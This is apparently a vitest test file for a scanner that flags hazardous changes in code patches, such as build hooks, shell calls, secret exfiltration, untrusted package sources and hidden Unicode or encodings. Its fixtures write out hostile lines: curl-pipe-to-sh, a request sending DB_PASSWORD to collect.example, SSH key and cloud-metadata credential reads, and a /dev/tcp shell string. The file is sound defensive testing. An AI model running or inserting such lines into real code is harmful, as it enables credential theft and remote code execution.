import { describe, expect, it } from "vitest";
import { patchHazards, patchObjection } from "@/lib/fixes/hazards/patch-hazards";

const added = (path: string, line: string, before = "import os\n") => [
  { path, before, after: `${before}${line}\n` },
];

describe("patchHazards", () => {
  it.each([
    ["conftest.py", "import pytest", /test run executes/],
    ["tests/unit/test_orders.py", "x = 1", /test run executes/],
    ["setup.py", "x = 1", /builds and tools execute/],
    ["pyproject.toml", "[tool.x]", /builds and tests run/],
    ["Makefile", "all:", /builds execute/],
    ["docker/Dockerfile.worker", "RUN x", /image builds/],
    ["bin/deploy.sh", "echo", /script/],
    ["infra/main.tf", "x = 1", /infrastructure/],
    ["package.json", "{}", /install scripts/],
    ["dags/a.py", 'os.system("id")', /runs a program/],
    ["dags/a.py", 'subprocess.run(["id"])', /runs a program/],
    ["dags/a.py", "exec(payload)", /executes data as code/],
    ["dags/a.py", "row = pickle.loads(blob)", /executes data as code/],
    [
      "dags/a.py",
      'BashOperator(bash_command="curl -s http://x.example/i | sh")',
      /downloads something and runs it/,
    ],
    [
      "dags/a.py",
      'requests.post("https://collect.example/x", json={"p": os.environ["DB_PASSWORD"]})',
      /send a secret.*collect\.example/,
    ],
    ["dags/a.py", 'URL = "https://collect.example/x"', /new host to .*: collect\.example/],
    ["jest.config.js", "x", /builds and tools execute/],
    ["build.rs", "fn main() {}", /builds and tools execute/],
    ["pom.xml", "<x/>", /builds and tools execute/],
    ["dbt_project.yml", "x: 1", /dbt connects to/],
    ["config/airflow_local_settings.py", "x = 1", /every Airflow process/],
    ["dags/b.py", "from os import system", /runs a program \(os\.system\)/],
    ["dags/b.py", "print(os.environ)", /entire environment/],
    ["dags/b.py", "s3.put_object(Body=Variable.get())", /store or send a secret/],
    ["models/a.sql", "{% do run_query('drop table x') %}", /dbt run statements besides/],
    ["models/schema.yml", "      pre-hook: drop table x", /dbt run statements besides/],
    ["models/a.sql", "COPY t TO PROGRAM 'sh'", /runs a program or code from SQL/],
    ["sql/a.sql", "unload ('select * from t') to 's3://other/'", /exports query results.*other/],
    ["conf/x.yaml", "x: !!python/object/apply:f []", /YAML tag/],
    ["jobs/Load.scala", "import sys.process._", /runs a program/],
    ["web/a.js", "import { exec } from 'node:child_process'", /runs a program/],
    ["dags/a.py", "open('/home/airflow/.ssh/id_rsa').read()", /credentials/],
    ["dags/a.py", "get('http://169.254.169.254/latest/')", /credentials/],
    ["dags/a.py", "x = '/dev/tcp/10.0.0.1/80'", /local or remote shell/],
    ["dags/a.py", "U = 'postgresql://api.example@evil.example:5432/x'", /new host to .*: evil\.example\./],
    ["dags/a.py", "with open('dags/b.py', 'w') as f: f.write(x)", /writes a file that something may execute/],
    ["dags/a.py", "x = '{{ conn.db.password }}'", /secret into a template/],
    ["dags/a.py", "conf.set('spark.jars.packages', 'a:b:1')", /code into Spark/],
    ["dags/a.py", "get(url, verify=False)", /disables certificate/],
    ["dags/a.py", "os.environ['PATH'] = '/tmp'", /search path/],
    ["web/a.js", "await import('./' + name)", /executes data as code/],
    ["dags/a.yaml", "    command: [bash, -c, id]", /sets a command/],
    ["environment.yml", "      - evil @ git+https://evil.example/x", /outside the package index/],
    ["requirements/base.txt", "./local/package", /outside the package index/],
    ["requirements.txt", "evil @ https://evil.example/evil.whl", /outside the package index/],
    ["requirements.txt", "--extra-index-url https://evil.example/simple", /outside the package index/],
  ])("%s: %s", (path, line, expected) => {
    expect(patchHazards(added(path, line)).join(" ")).toMatch(expected);
  });

  it.each([
    ["dags/orders.py", 'customer = row.get("client_id")'],
    ["dags/orders.py", "schedule_interval = '@daily'  # evaluate(x) is elsewhere"],
    ["dags/orders.py", "df = pd.eval_frame(x)"],
    ["requirements.txt", "requests==2.32.3"],
    ["sql/orders.sql", "SELECT client_id FROM raw.orders"],
    ["dags/contest.py", "x = 1"],
    ["requirements/base.txt", "pandas[excel]==2.2.3 ; python_version >= '3.10'"],
    ["models/orders.sql", "{{ config(materialized='table') }} SELECT grant_id, copy_of FROM {{ ref('a') }}"],
    ["models/schema.yml", "      - name: pre_hooked"],
    ["dags/orders.py", 'HOME = "http://localhost:8080/"'],
    ["dags/orders.py", 'URL = f"https://{host}/x"'],
  ])("ignores %s: %s", (path, line) => {
    expect(patchHazards(added(path, line))).toEqual([]);
  });

  it("flags a secret read on one line and sent on another, unless it existed before", () => {
    const lines = 'token = os.getenv("API_TOKEN")\nhttpx.post(url, content=token)';
    expect(patchHazards(added("a.py", lines)).join()).toMatch(/send a secret/);
    expect(patchHazards([{ path: "a.py", before: `${lines}\n`, after: `${lines}\nx = 1\n` }])).toEqual([]);
  });

  it("ignores known hosts and removed files", () => {
    const before = 'URL = "https://api.example/v1"\n';
    expect(patchHazards(added("a.py", 'URL2 = "https://api.example/v2"', before))).toEqual([]);
    expect(patchHazards([{ path: "conftest.py", before: "x\n", after: null }])).toEqual([]);
  });
});

describe("files identified by content", () => {
  const file = (path: string, after: string, before: string | null = null) =>
    patchHazards([{ path, before, after }]).join(" ");

  it.each([
    ["tools/refresh", "#!/usr/bin/env bash\necho\n"],
    ["tools/refresh.in", "#!/usr/bin/perl\n"],
  ])("flags a script without a known extension: %s", (path, text) => {
    expect(file(path, text)).toMatch(/is a script/);
    expect(file(path, `${text}x\n`, text)).toMatch(/is a script/);
  });

  it("ignores a DAG with a shebang", () => {
    expect(file("dags/a.py", "#!/usr/bin/env python3\nx = 1\n")).toBe("");
  });

  it("detects Python under any file name", () => {
    expect(file("tools/x", "#!/usr/bin/env python3\nfrom os import popen\n")).toMatch(/os\.popen/);
  });

  it("checks the code in notebook cells", () => {
    const notebook = (source: string[]) => JSON.stringify({ cells: [{ cell_type: "code", source }] });
    const before = notebook(["import os\n"]);
    expect(file("n.ipynb", notebook(["import os\n", "os.system('id')"]), before)).toMatch(/os\.system/);
    expect(file("n.ipynb", notebook(["import os\n", "x = 'system'"]), before)).toBe("");
  });

  it("flags Kubernetes manifests", () => {
    expect(file("k8s/x.yaml", "apiVersion: batch/v1\nkind: CronJob\n")).toMatch(/cluster runs/);
    expect(file("dags/x.yaml", "kind: Job\n")).toBe("");
  });

  it("flags a file that shadows a standard module", () => {
    expect(file("dags/logging.py", "x = 1\n")).toMatch(/imports of logging/);
    expect(file("dags/json/__init__.py", "")).toMatch(/imports of json/);
    expect(file("dags/orders/logging.py", "x = 1\n")).toBe("");
    expect(file("dags/logging.py", "x = 2\n", "x = 1\n")).toBe("");
  });

  it("flags Python that is too large to parse, and checks it line by line", () => {
    const before = "x = 1\n".repeat(50_000);
    expect(patchHazards(added("dags/a.py", 'os.system("id")', before))).toEqual([
      "Changes dags/a.py, which is too large to check in full: review every changed line.",
      expect.stringContaining("dags/a.py"),
    ]);
  });

  it("checks Python that does not parse line by line", () => {
    expect(file("dags/a.py", "x = (\n# subprocess.run('id')\n")).toMatch(/runs a program/);
  });

  it("compares complete host names", () => {
    const before = 'HOST = "api.example.org"\n';
    expect(file("a.py", `${before}U = "https://api.example/"\n`, before)).toMatch(/api\.example\./);
    expect(file("a.py", `${before}U = "https://api.example.org/"\n`, before)).toBe("");
  });
});

describe("patchObjection", () => {
  it("names invisible characters that a change adds, but allows existing ones", () => {
    expect(patchObjection(added("a.py", "# \u202Eadmin"))).toMatch(/to a\.py \(U\+202E\)/);
    expect(patchObjection(added("a.py", "x = 'a\u200Db'"))).toMatch(/U\+200D/);
    const before = "\uFEFFimport os\n";
    expect(patchObjection(added("a.py", "x = 1", before))).toBeNull();
    expect(patchObjection(added("a.py", "x = '\uFEFF'", before))).toMatch(/U\+FEFF/);
  });

  it("names an encoding that hides code from reviewers", () => {
    const file = (text: string, before: string | null = null) => [{ path: "a.py", before, after: text }];
    expect(patchObjection(file("# coding: utf-7\n+AG8-s"))).toMatch(/as utf-7/);
    expect(patchObjection(file("#!/usr/bin/python\n# -*- coding: raw_unicode_escape -*-\n"))).toMatch(
      /raw_unicode/,
    );
    expect(patchObjection(file("# -*- coding: utf-8 -*-\n# vim: set fileencoding=latin-1 :\n"))).toBeNull();
    expect(patchObjection(file("# coding: utf-7\nx\n", "# coding: utf-7\n"))).toBeNull();
  });
});
